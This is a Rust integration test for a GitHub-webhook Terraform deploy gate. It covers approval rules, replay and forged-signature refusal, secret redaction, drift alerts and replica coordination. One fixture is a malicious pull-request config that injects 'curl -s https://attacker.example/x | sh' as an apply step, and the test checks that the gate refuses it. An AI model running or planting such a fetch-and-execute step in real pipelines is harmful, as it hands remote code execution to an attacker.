//! The deploy gate through the real `twokey serve --config` process: a GitHub
//! stand-in on loopback (real octokit payloads, GitHub App authentication
//! checked: RS256 JWT → installation token), real Terraform 1.0.3, signed
//! webhook deliveries. A pull request goes plan → comment + status →
//! approval by a second person with write permission on the head commit →
//! `twokey apply` → result comment; the attacks of issue 7 are refused with a
//! clear comment and a ledger entry; the scheduled drift check alerts
//! through the broker's alert sink.

use crate::support;

use std::path::PathBuf;
use std::process::Command;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use support::{wait_until, Server, TestEnv};
use twokey_gate::testing::{Fixtures, StandIn};
use twokey_gate::webhook::sign;

const REPO: &str = "acme/infra";
const SECRET: &str = "gate-webhook-secret-0123456789";
const APP_ID: u64 = 4242;
const INSTALLATION: u64 = 77;

fn terraform() -> Option<PathBuf> {
    if let Some(p) = std::env::var_os("TWOKEY_TERRAFORM") {
        return Some(PathBuf::from(p));
    }
    let p = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../.venv/terraform/terraform");
    if p.exists() {
        return Some(p);
    }
    if std::env::var_os("CI").is_some() {
        panic!("TWOKEY_TERRAFORM is not set and .venv/terraform/terraform is missing: run scripts/setup-gate-fixtures.sh");
    }
    eprintln!(
        "skipping: terraform missing (set TWOKEY_TERRAFORM or run scripts/setup-gate-fixtures.sh)"
    );
    None
}

/// A Terraform config without provider plugins; state in a local file
/// outside the checkout, so it survives from plan to apply and across
/// commits (as a remote backend would).
fn main_tf(state: &std::path::Path, env: &str) -> String {
    format!(
        r#"terraform {{
  backend "local" {{
    path = "{}"
  }}
}}
variable "env" {{
  default = "{env}"
}}
locals {{
  bucket = "twokey-${{var.env}}-logs"
}}
output "bucket" {{
  value = local.bucket
}}
output "leaky" {{
  value = "password = \"hunter2-in-plain\""
}}
output "configured_secret" {{
  value = "s3cr3t-literal-value-42"
}}
"#,
        state.display()
    )
}

fn drift_tf(state: &std::path::Path, v: &str) -> String {
    format!(
        "terraform {{\n  backend \"local\" {{\n    path = \"{}\"\n  }}\n}}\noutput \"v\" {{\n  value = \"{v}\"\n}}\n",
        state.display()
    )
}

/// An RSA key pair for the GitHub App (private PEM path, public PEM bytes).
fn app_key(dir: &std::path::Path) -> (PathBuf, Vec<u8>) {
    let key = dir.join("app.pem");
    let st = Command::new("openssl")
        .args(["genrsa", "-out"])
        .arg(&key)
        .arg("2048")
        .output()
        .expect("run openssl (needed to make the test GitHub App key)");
    assert!(st.status.success(), "openssl genrsa: {st:?}");
    let out = Command::new("openssl")
        .args(["rsa", "-pubout", "-in"])
        .arg(&key)
        .output()
        .expect("openssl rsa -pubout");
    assert!(out.status.success(), "openssl rsa -pubout: {out:?}");
    (key, out.stdout)
}

struct Hook {
    url: String,
    http: reqwest::Client,
    n: u32,
}

impl Hook {
    async fn send(&mut self, event: &str, body: &[u8]) -> (u16, String, String) {
        self.n += 1;
        let id = format!("5a1c0000-0000-4000-8000-{:012}", self.n);
        let sig = sign(SECRET.as_bytes(), body);
        self.send_raw(&id, event, body, &sig).await
    }

    async fn send_raw(
        &self,
        id: &str,
        event: &str,
        body: &[u8],
        sig: &str,
    ) -> (u16, String, String) {
        let (status, text) =
            twokey_gate::testing::deliver(&self.http, &self.url, event, id, sig, body)
                .await
                .expect("deliver webhook");
        (status, text, id.to_string())
    }
}

/// Waits for a comment after the first `after` comments that contains `needle`.
async fn comment_after(gh: &StandIn, n: u64, after: usize, needle: &str) -> String {
    let needle = needle.to_string();
    wait_until(
        &format!("a comment with {needle:?} on #{n}"),
        Duration::from_secs(180),
        || {
            let cs = gh.comments(REPO, n);
            let needle = needle.clone();
            async move {
                cs.iter()
                    .skip(after)
                    .find(|c| c.contains(&needle))
                    .cloned()
                    .ok_or_else(|| format!("comments so far: {:#?}", &cs[after.min(cs.len())..]))
            }
        },
    )
    .await
}

async fn ledger(database: &str) -> Vec<(String, String, serde_json::Value)> {
    let store = twokey_store::Store::open(database)
        .await
        .expect("open the server's store");
    store
        .ledger(0, 100_000)
        .await
        .expect("read ledger")
        .into_iter()
        .map(|e| (e.kind, e.subject, e.data))
        .collect()
}

/// A webhook alert sink: collects the JSON bodies POSTed to it.
async fn alert_sink() -> (String, Arc<Mutex<Vec<serde_json::Value>>>) {
    let got: Arc<Mutex<Vec<serde_json::Value>>> = Arc::default();
    let g = got.clone();
    let app = axum::Router::new().route(
        "/alerts",
        axum::routing::post(move |body: axum::body::Bytes| {
            let g = g.clone();
            async move {
                if let Ok(v) = serde_json::from_slice(&body) {
                    g.lock().expect("lock").push(v);
                }
                "ok"
            }
        }),
    );
    let l = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("bind sink");
    let url = format!("http://{}/alerts", l.local_addr().expect("addr"));
    tokio::spawn(async move {
        let _ = axum::serve(l, app).await;
    });
    (url, got)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn gate_through_twokey_serve() {
    let (Some(fixtures), Some(tf)) = (Fixtures::load(), terraform()) else {
        return;
    };
    let env = TestEnv::new(None);
    let d = env.path().to_path_buf();
    let gh = StandIn::start(fixtures).await.expect("stand-in");
    let (key, public) = app_key(&d);
    gh.set_app(APP_ID, &public, INSTALLATION).expect("app key");
    for (u, p) in [
        ("alice", "write"),
        ("bob", "write"),
        ("carol", "write"),
        ("mallory", "write"),
        ("rita", "read"),
    ] {
        gh.set_permission(u, p);
    }
    // Drift: the code on main says "two", the state says "one".
    let drift_state = d.join("drift.tfstate");
    let scratch = d.join("scratch");
    std::fs::create_dir_all(&scratch).expect("mkdir");
    std::fs::write(scratch.join("main.tf"), drift_tf(&drift_state, "one")).expect("write");
    for args in [
        &["init", "-input=false", "-no-color"][..],
        &["apply", "-auto-approve", "-input=false", "-no-color"],
    ] {
        let out = Command::new(&tf)
            .args(args)
            .current_dir(&scratch)
            .output()
            .expect("terraform");
        assert!(
            out.status.success(),
            "terraform {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    gh.set_default_branch(
        REPO,
        "main",
        &[("envs/drifty/main.tf", &drift_tf(&drift_state, "two"))],
    );

    let (sink_url, alerts) = alert_sink().await;
    let secret_file = d.join("webhook-secret");
    std::fs::write(&secret_file, format!("{SECRET}\n")).expect("write secret");
    let gate = format!(
        r#"
[gate]
api_url = "{api}"
app_id = {APP_ID}
app_private_key_file = "{key}"
webhook_secret_file = "{secret}"
allow = ["{REPO}"]
workdir = "{work}"
terraform_bin = "{tf}"
max_body_bytes = 262144
approvals = 2
drift_interval = "1h"
redact_values = ["s3cr3t-literal-value-42"]

[[gate.project]]
repo = "{REPO}"
name = "prod"
dir = "envs/prod"
drift = false

[[gate.project]]
repo = "{REPO}"
name = "drifty"
dir = "envs/drifty"
autoplan = false

[[alerts.sink]]
kind = "webhook"
url = "{sink_url}"
secret = "sink-secret"
"#,
        api = gh.url,
        key = key.display(),
        secret = secret_file.display(),
        work = d.join("gate").display(),
        tf = tf.display(),
    );
    let mut text = std::fs::read_to_string(&env.config).expect("read config");
    text.push_str(&gate);
    std::fs::write(&env.config, text).expect("write config");

    let server = Server::start(&env, "gate", &[]);
    let mut hook = Hook {
        url: format!("{}/v1/gate/github", server.url),
        http: reqwest::Client::builder()
            .no_proxy()
            .timeout(Duration::from_secs(300))
            .build()
            .expect("client"),
        n: 0,
    };
    let state = d.join("prod.tfstate");

    // Forged signature: 401, ledger entry.
    let head1 = gh.open(
        REPO,
        1,
        "alice",
        &[("envs/prod/main.tf", &main_tf(&state, "prod"))],
    );
    let opened = gh.pull_request_event(REPO, 1, "opened", "alice");
    let forged = sign(b"not-the-secret", &opened);
    let (st, text, _) = hook
        .send_raw("forged-1", "pull_request", &opened, &forged)
        .await;
    assert_eq!(st, 401, "{text}");
    assert!(gh.comments(REPO, 1).is_empty());

    // Too large: 413.
    let big = vec![b' '; 300_000];
    let (st, _, _) = hook.send("pull_request", &big).await;
    assert_eq!(st, 413);

    // Outside the allow-list: ignored.
    let evil = String::from_utf8_lossy(&opened)
        .replace(REPO, "evil/infra")
        .into_bytes();
    let (st, text, _) = hook.send("pull_request", &evil).await;
    assert_eq!(st, 202, "{text}");

    // Opened: autoplan → redacted plan comment, commit status.
    let (st, text, opened_id) = hook.send("pull_request", &opened).await;
    assert!(st == 200 || st == 202, "{st} {text}");
    let plan = comment_after(&gh, 1, 0, "twokey plan `prod`").await;
    assert!(
        plan.contains("succeeded") && plan.contains("twokey-prod-logs"),
        "{plan}"
    );
    assert!(
        !plan.contains("hunter2-in-plain"),
        "secret-looking value leaked: {plan}"
    );
    assert!(
        !plan.contains("s3cr3t-literal-value-42"),
        "configured secret leaked: {plan}"
    );
    assert!(plan.contains("[REDACTED]"), "{plan}");
    wait_until("success status on head1", Duration::from_secs(30), || {
        let s = gh.statuses(&head1);
        async move {
            s.contains(&("twokey/plan".to_string(), "success".to_string()))
                .then_some(())
                .ok_or(format!("{s:?}"))
        }
    })
    .await;

    // Replayed delivery.
    let sig = sign(SECRET.as_bytes(), &opened);
    let (st, text, _) = hook
        .send_raw(&opened_id, "pull_request", &opened, &sig)
        .await;
    assert_eq!((st, text.as_str()), (200, "duplicate delivery ignored"));

    let apply = |who: &str| gh.comment_event(REPO, 1, who, "twokey apply");
    let count = |gh: &StandIn| gh.comments(REPO, 1).len();

    // Apply by a read-only user.
    let c0 = count(&gh);
    hook.send("issue_comment", &apply("rita")).await;
    comment_after(&gh, 1, c0, "@rita has Read permission; commands need write").await;

    // Approval by the author and by a reader do not count.
    gh.review(REPO, 1, "alice", "APPROVED");
    gh.review(REPO, 1, "rita", "APPROVED");
    let c0 = count(&gh);
    hook.send("issue_comment", &apply("alice")).await;
    let c = comment_after(&gh, 1, c0, "apply refused").await;
    assert!(
        c.contains("@alice ignored: they are the author")
            && c.contains("@rita ignored: permission Read"),
        "{c}"
    );

    // bob approves; mallory pushes: bob's approval is now stale and
    // mallory's own approval does not count.
    gh.review(REPO, 1, "bob", "APPROVED");
    let head2 = gh.push(REPO, 1, &[("envs/prod/main.tf", &main_tf(&state, "prod2"))]);
    let c0 = count(&gh);
    hook.send(
        "pull_request",
        &gh.pull_request_event(REPO, 1, "synchronize", "mallory"),
    )
    .await;
    comment_after(&gh, 1, c0, &format!("at {}: succeeded", &head2[..7])).await;
    gh.review(REPO, 1, "mallory", "APPROVED");
    let c0 = count(&gh);
    hook.send("issue_comment", &apply("alice")).await;
    let c = comment_after(&gh, 1, c0, "apply refused").await;
    assert!(c.contains("@bob ignored: it is for older commit"), "{c}");
    assert!(
        c.contains("@mallory ignored: they pushed the head commit"),
        "{c}"
    );

    // Changes requested outstanding.
    gh.review(REPO, 1, "bob", "APPROVED");
    gh.review(REPO, 1, "carol", "CHANGES_REQUESTED");
    let c0 = count(&gh);
    hook.send("issue_comment", &apply("alice")).await;
    let c = comment_after(&gh, 1, c0, "apply refused").await;
    assert!(c.contains("@carol has requested changes"), "{c}");

    // carol approves: two eligible approvals on head2 → apply.
    gh.review(REPO, 1, "carol", "APPROVED");
    let c0 = count(&gh);
    hook.send("issue_comment", &apply("alice")).await;
    let c = comment_after(&gh, 1, c0, "twokey apply `prod`").await;
    assert!(
        c.contains("succeeded") && c.contains("Apply complete"),
        "{c}"
    );
    assert!(c.contains("twokey-prod2-logs"), "{c}");
    assert!(
        !c.contains("hunter2-in-plain") && !c.contains("s3cr3t-literal-value-42"),
        "{c}"
    );
    let applied: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&state).expect("state written by the apply"))
            .expect("state json");
    assert_eq!(applied["outputs"]["bucket"]["value"], "twokey-prod2-logs");

    // A pull request whose selection file adds a step: refused, nothing planned.
    let evil_sel = "projects = [\"prod\"]\n\n[workflow.prod]\napply = [[\"sh\", \"-c\", \"curl -s https://attacker.example/x | sh\"]]\n";
    let head3 = gh.open(
        REPO,
        2,
        "mallory",
        &[
            ("envs/prod/main.tf", &main_tf(&state, "evil")),
            ("twokey-gate.toml", evil_sel),
        ],
    );
    hook.send(
        "pull_request",
        &gh.pull_request_event(REPO, 2, "opened", "mallory"),
    )
    .await;
    let c = wait_until("selection refusal on #2", Duration::from_secs(120), || {
        let cs = gh.comments(REPO, 2);
        async move {
            cs.first()
                .cloned()
                .ok_or_else(|| "no comment yet".to_string())
        }
    })
    .await;
    assert!(
        c.contains("refused")
            && c.contains("twokey-gate.toml may only list configured project names"),
        "{c}"
    );
    assert!(!gh
        .comments(REPO, 2)
        .iter()
        .any(|c| c.contains("twokey plan")));
    assert!(gh
        .statuses(&head3)
        .contains(&("twokey/plan".into(), "failure".into())));
    gh.review(REPO, 2, "bob", "APPROVED");
    gh.review(REPO, 2, "carol", "APPROVED");
    hook.send(
        "issue_comment",
        &gh.comment_event(REPO, 2, "mallory", "twokey apply"),
    )
    .await;
    comment_after(&gh, 2, 1, "no successful plan for the head commit").await;

    // Drift: alerted through the broker's webhook sink.
    let alert = wait_until(
        "a gate_drift alert at the sink",
        Duration::from_secs(120),
        || {
            let a = alerts.lock().expect("lock").clone();
            async move {
                a.iter()
                    .find(|v| v["kind"] == "gate_drift")
                    .cloned()
                    .ok_or(format!("alerts so far: {a:?}"))
            }
        },
    )
    .await;
    assert_eq!(
        alert["title"], "Drift: acme/infra project drifty on main differs from the code",
        "{alert}"
    );
    assert_eq!(alert["severity"], "critical", "{alert}");

    // The ledger: the same store and ledger as the broker.
    let l = ledger(&env.database).await;
    let reasons: Vec<String> = l
        .iter()
        .filter(|(k, _, _)| k == "gate.refused")
        .map(|(_, _, d)| d["reason"].as_str().unwrap_or("?").to_string())
        .collect();
    for r in [
        "signature",
        "body_too_large",
        "replayed_delivery",
        "command_without_write",
        "apply_requirements",
        "selection_file",
        "no_plan_for_head",
    ] {
        assert!(
            reasons.iter().any(|x| x == r),
            "no refusal {r} in the ledger: {reasons:?}"
        );
    }
    let evidence = &l
        .iter()
        .find(|(k, _, _)| k == "gate.apply_evidence")
        .expect("apply evidence")
        .2;
    assert_eq!(evidence["head_sha"], head2.as_str());
    assert_eq!(evidence["last_pusher"], "mallory");
    assert_eq!(evidence["author"], "alice");
    let mut approvers: Vec<&str> = evidence["approvals"]
        .as_array()
        .expect("approvals")
        .iter()
        .map(|a| {
            assert_eq!(a["commit"], head2.as_str(), "{evidence}");
            a["reviewer"].as_str().unwrap_or("?")
        })
        .collect();
    approvers.sort();
    assert_eq!(approvers, ["bob", "carol"], "{evidence}");
    let result = &l
        .iter()
        .find(|(k, _, _)| k == "gate.apply_result")
        .expect("apply result")
        .2;
    assert_eq!(result["ok"], true);
    assert!(l.iter().filter(|(k, _, _)| k == "gate.plan").count() >= 2);
    let drift = &l
        .iter()
        .find(|(k, _, _)| k == "gate.drift")
        .expect("drift entry")
        .2;
    assert_eq!(drift["project"], "drifty");
    assert_eq!(drift["branch"], "main");

    // GitHub App authentication was used and never refused.
    let log = gh.auth_log();
    assert!(log.iter().any(|l| l.ends_with("app-jwt")), "{log:?}");
    assert!(
        log.iter().any(|l| l.ends_with("installation-token")),
        "{log:?}"
    );
    assert!(!log.iter().any(|l| l.ends_with("refused")), "{log:?}");
    drop(server);
}

#[tokio::test]
async fn gate_config_errors_say_where() {
    let env = TestEnv::new(None);
    let mut text = std::fs::read_to_string(&env.config).expect("read");
    text.push_str("\n[gate]\nallow = [\"acme/infra\"]\napprovals = \"two\"\n");
    std::fs::write(&env.config, &text).expect("write");
    let out = Command::new(support::BIN)
        .args(["serve", "--config"])
        .arg(&env.config)
        .args(["--listen", "127.0.0.1:0"])
        .output()
        .expect("run twokey serve");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success());
    let line = text
        .lines()
        .position(|l| l.starts_with("approvals"))
        .expect("line")
        + 1;
    assert!(
        err.contains(&format!("twokey.toml:{line}:")) && err.contains("invalid type"),
        "{err}"
    );

    // No webhook secret: refused before listening.
    let text = text.replace("approvals = \"two\"", "token = \"t\"");
    std::fs::write(&env.config, &text).expect("write");
    let out = Command::new(support::BIN)
        .args(["serve", "--config"])
        .arg(&env.config)
        .args(["--listen", "127.0.0.1:0"])
        .output()
        .expect("run twokey serve");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success());
    assert!(
        err.contains("twokey.toml: [gate]: gate.webhook_secret_file"),
        "{err}"
    );
}

/// Two `twokey serve` replicas on one PostgreSQL, each with its own
/// workdir (as on two hosts): the plan made by one is applied by the
/// other (the plan file travels through the store, SHA-256 checked), a
/// delivery sent to both is worked on once, and two `twokey apply`
/// comments racing on both replicas apply once.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn two_replicas_apply_once() {
    let (Some(fixtures), Some(tf)) = (Fixtures::load(), terraform()) else {
        return;
    };
    let db = support::fresh_pg("twokey_gate_replicas").await;
    let gh = StandIn::start(fixtures).await.expect("stand-in");
    gh.require_token("ghp_replicatoken");
    gh.set_permission("alice", "write");
    gh.set_permission("bob", "write");
    let envs = [
        TestEnv::new(Some(db.clone())),
        TestEnv::new(Some(db.clone())),
    ];
    for env in &envs {
        let conf = format!(
            "\n[gate]\napi_url = \"{}\"\ntoken = \"ghp_replicatoken\"\nwebhook_secret = \"{SECRET}\"\nallow = [\"{REPO}\"]\nworkdir = \"{}\"\nterraform_bin = \"{}\"\n\n[[gate.project]]\nrepo = \"{REPO}\"\nname = \"prod\"\ndir = \"envs/prod\"\n",
            gh.url,
            env.path().join("gate").display(),
            tf.display()
        );
        let mut text = std::fs::read_to_string(&env.config).expect("read");
        text.push_str(&conf);
        std::fs::write(&env.config, text).expect("write");
    }
    let a = Server::start(&envs[0], "a", &["--node", "a"]);
    let b = Server::start(&envs[1], "b", &["--node", "b"]);
    let http = reqwest::Client::builder()
        .no_proxy()
        .timeout(Duration::from_secs(300))
        .build()
        .expect("client");
    let mut ha = Hook {
        url: format!("{}/v1/gate/github", a.url),
        http: http.clone(),
        n: 0,
    };
    let hb = Hook {
        url: format!("{}/v1/gate/github", b.url),
        http,
        n: 1000,
    };

    let state = envs[0].path().join("prod.tfstate");
    let head = gh.open(
        REPO,
        1,
        "alice",
        &[("envs/prod/main.tf", &main_tf(&state, "prod"))],
    );
    // The same delivery to both replicas: planned once.
    let opened = gh.pull_request_event(REPO, 1, "opened", "alice");
    let sig = sign(SECRET.as_bytes(), &opened);
    let id = "7e570000-0000-4000-8000-000000000001";
    let (ra, rb) = tokio::join!(
        ha.send_raw(id, "pull_request", &opened, &sig),
        hb.send_raw(id, "pull_request", &opened, &sig)
    );
    let texts = [ra.1.as_str(), rb.1.as_str()];
    assert!(texts.contains(&"duplicate delivery ignored"), "{texts:?}");
    comment_after(&gh, 1, 0, "twokey plan `prod`").await;
    gh.review(REPO, 1, "bob", "APPROVED");
    let planned_here = |i: usize| envs[i].path().join("gate/plans").exists();
    assert!(
        planned_here(0) ^ planned_here(1),
        "exactly one replica planned"
    );
    let (planner, other) = if planned_here(0) { (0, 1) } else { (1, 0) };
    let hooks = [&ha, &hb];

    // The other replica applies the plan it did not make, and cannot see
    // the planner's disk (as on another host).
    std::fs::remove_dir_all(envs[planner].path().join("gate/plans")).expect("rm");
    let c0 = gh.comments(REPO, 1).len();
    let ev = gh.comment_event(REPO, 1, "alice", "twokey apply");
    let s = sign(SECRET.as_bytes(), &ev);
    let (_, text, _) = hooks[other]
        .send_raw(
            "7e570000-0000-4000-8000-000000000002",
            "issue_comment",
            &ev,
            &s,
        )
        .await;
    let c = comment_after(&gh, 1, c0, "twokey apply `prod`").await;
    assert!(
        c.contains("Apply complete") && c.contains(&head[..7]),
        "{c} ({text})"
    );
    assert!(
        planned_here(other),
        "the plan file was restored from the store on replica {other}"
    );

    // Next pull request: two apply comments at once, one to each replica.
    let closed = gh.pull_request_event(REPO, 1, "closed", "alice");
    let s = sign(SECRET.as_bytes(), &closed);
    ha.send_raw(
        "7e570000-0000-4000-8000-000000000003",
        "pull_request",
        &closed,
        &s,
    )
    .await;
    let head2 = gh.open(
        REPO,
        2,
        "alice",
        &[("envs/prod/main.tf", &main_tf(&state, "prod2"))],
    );
    ha.send(
        "pull_request",
        &gh.pull_request_event(REPO, 2, "opened", "alice"),
    )
    .await;
    comment_after(&gh, 2, 0, "twokey plan `prod`").await;
    gh.review(REPO, 2, "bob", "APPROVED");
    let c0 = gh.comments(REPO, 2).len();
    let ev = gh.comment_event(REPO, 2, "alice", "twokey apply");
    let ev2 = gh.comment_event(REPO, 2, "alice", "twokey apply -p prod");
    let s2 = sign(SECRET.as_bytes(), &ev2);
    let (r1, r2) = tokio::join!(
        ha.send("issue_comment", &ev),
        hb.send_raw(
            "7e570000-0000-4000-8000-000000000004",
            "issue_comment",
            &ev2,
            &s2
        )
    );
    comment_after(&gh, 2, c0, "twokey apply `prod`").await;
    wait_until(
        "both apply comments answered",
        Duration::from_secs(120),
        || {
            let n = gh.comments(REPO, 2).len();
            async move {
                (n >= c0 + 2)
                    .then_some(())
                    .ok_or(format!("{} new comments", n - c0))
            }
        },
    )
    .await;
    let answers = [r1.1, r2.1];
    assert_eq!(
        answers
            .iter()
            .filter(|t| t.as_str() == "applied 1 project(s)")
            .count(),
        1,
        "{answers:?}"
    );
    let applies: Vec<String> = gh.comments(REPO, 2)[c0..]
        .iter()
        .filter(|c| c.contains("twokey apply `prod`"))
        .cloned()
        .collect();
    assert_eq!(applies.len(), 1, "{applies:?}");
    assert!(
        applies[0].contains("Apply complete") && applies[0].contains(&head2[..7]),
        "{}",
        applies[0]
    );
    let l = ledger(&db).await;
    assert_eq!(
        l.iter()
            .filter(|(k, _, _)| k == "gate.apply_result")
            .count(),
        2
    );
    assert_eq!(
        l.iter()
            .filter(|(k, _, _)| k == "gate.apply_evidence")
            .count(),
        2
    );
    assert_eq!(l.iter().filter(|(k, _, _)| k == "gate.plan").count(), 2);
    drop((a, b));
}
